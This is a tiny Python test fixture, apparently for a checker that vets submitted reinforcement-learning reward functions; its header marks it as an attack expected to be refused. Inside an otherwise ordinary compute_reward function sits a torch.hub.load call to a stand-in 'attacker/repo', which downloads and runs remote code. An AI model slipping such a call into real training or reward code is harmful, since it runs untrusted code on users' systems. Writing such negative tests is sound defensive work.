# expect: refused
# attack: torch.hub.load downloads and runs code from GitHub
import torch


def compute_reward(state, action, next_state):
    dist = (next_state["agent_pos"] - next_state["goal_pos"]).abs().sum(-1).float()
    reward = -0.01 * dist
    m = torch.hub.load("attacker/repo", "model")
    return reward, {"dist": dist}
